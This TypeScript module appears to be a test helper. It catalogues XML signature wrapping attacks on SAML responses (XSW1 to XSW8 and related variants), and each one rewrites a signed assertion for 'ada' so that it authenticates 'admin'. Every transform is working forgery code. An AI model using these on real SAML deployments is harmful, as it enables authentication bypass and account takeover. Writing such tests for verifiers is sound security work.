// Signature wrapping as SAML Raider does it (XSW1 to XSW8; Somorovsky et al., USENIX Security 2012), and its relatives: each wants
// the sign-in of `admin` out of a signed response of `ada`.

export const SIGNATURE = /<ds:Signature .*?<\/ds:Signature>/s
export const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s

export const evil = (xml: string): string => xml.replaceAll('>ada<', '>admin<').replaceAll('ada@', 'admin@')
const otherId = (xml: string, id: string): string => xml.replaceAll(new RegExp(`ID="${id}[^"]*"`, 'g'), 'ID="_evil"')
const unsigned = (xml: string): string => xml.replace(SIGNATURE, '')
const assertionIn = (xml: string): string => ASSERTION.exec(xml)?.[0] as string
export const signatureIn = (xml: string): string => SIGNATURE.exec(xml)?.[0] as string
/** A new assertion of the attacker's, unsigned. */
const evilAssertion = (xml: string): string => otherId(unsigned(evil(assertionIn(xml))), '_assertion')
const into = (signature: string, content: string): string =>
  signature.replace('</ds:Signature>', `${content}</ds:Signature>`)

/**
 * The attacks on a response: its signature moves into a response of the attacker's, with the true one somewhere in it.
 */
const onResponses: Record<string, (xml: string) => string> = {
  'XSW1: the true response inside of the signature': (xml) =>
    otherId(evil(xml), '_response').replace(SIGNATURE, (signature) => into(signature, unsigned(xml))),
  'XSW2: the true response before the signature': (xml) =>
    otherId(evil(xml), '_response').replace(SIGNATURE, (signature) => unsigned(xml) + signature),
}

/** The attacks on assertions: two of them, in all places. */
const onAssertions: Record<string, (xml: string) => string> = {
  'XSW3: an assertion before the true one': (xml) => xml.replace(ASSERTION, (truth) => evilAssertion(xml) + truth),
  'XSW4: an assertion around the true one': (xml) =>
    xml.replace(ASSERTION, (truth) => evilAssertion(xml).replace('</saml:Assertion>', `${truth}</saml:Assertion>`)),
  'XSW5: a changed assertion, the true one at the end': (xml) =>
    xml.replace(ASSERTION, (truth) => otherId(evil(truth), '_assertion') + unsigned(truth)),
  'XSW6: the true assertion inside of the signature of a changed one': (xml) =>
    xml.replace(ASSERTION, (truth) =>
      otherId(evil(truth), '_assertion').replace(SIGNATURE, (signature) => into(signature, unsigned(truth))),
    ),
  'XSW7: an assertion within Extensions': (xml) =>
    xml.replace(ASSERTION, (truth) => `<samlp:Extensions>${evilAssertion(xml)}</samlp:Extensions>${truth}`),
  'XSW7 the other way round: the true one within Extensions': (xml) =>
    xml.replace(ASSERTION, (truth) => `<samlp:Extensions>${truth}</samlp:Extensions>${evilAssertion(xml)}`),
  'XSW8: the true assertion in an Object of the signature': (xml) =>
    xml.replace(ASSERTION, (truth) =>
      otherId(evil(truth), '_assertion').replace(SIGNATURE, (signature) =>
        into(signature, `<ds:Object>${unsigned(truth)}</ds:Object>`),
      ),
    ),
  'an assertion after the true one': (xml) => xml.replace(ASSERTION, (truth) => truth + evilAssertion(xml)),
  'with the same id': (xml) => xml.replace(ASSERTION, (truth) => truth + unsigned(evil(truth))),
  'with the same id first': (xml) => xml.replace(ASSERTION, (truth) => unsigned(evil(truth)) + truth),
  'instead, the signature kept': (xml) => xml.replace(ASSERTION, (truth) => evil(truth)),
  'instead, with an id that differs in case': (xml) =>
    xml.replace(ASSERTION, (truth) =>
      evil(truth).replace(/ID="_assertion([^"]*)"/, 'ID="_Assertion$1" Id="_assertion$1"'),
    ),
  'as Advice of the true one': (xml) =>
    xml.replace('</saml:Conditions>', `</saml:Conditions><saml:Advice>${evilAssertion(xml)}</saml:Advice>`),
  'as Advice around the true one': (xml) =>
    xml.replace(ASSERTION, (truth) =>
      evilAssertion(xml).replace('</saml:Conditions>', `</saml:Conditions><saml:Advice>${truth}</saml:Advice>`),
    ),
  'in another namespace': (xml) =>
    xml.replace(ASSERTION, (truth) => evilAssertion(xml).replace('xmlns:saml="', 'xmlns:saml="urn:other:') + truth),
  'a second subject': (xml) =>
    xml.replace('<saml:Conditions', '<saml:Subject><saml:NameID>admin</saml:NameID></saml:Subject><saml:Conditions'),
  'within an attribute value': (xml) =>
    xml.replace('<saml:AttributeValue>', `<saml:AttributeValue>${evilAssertion(xml)}`),
  'within the status': (xml) =>
    xml.replace('</samlp:Status>', `<samlp:StatusDetail>${evilAssertion(xml)}</samlp:StatusDetail></samlp:Status>`),
}

/** By name: signature wrapping, on a signed response whose ids begin with `_response` and `_assertion`. */
export const wrappingAttacks: Readonly<Record<string, (xml: string) => string>> = { ...onResponses, ...onAssertions }
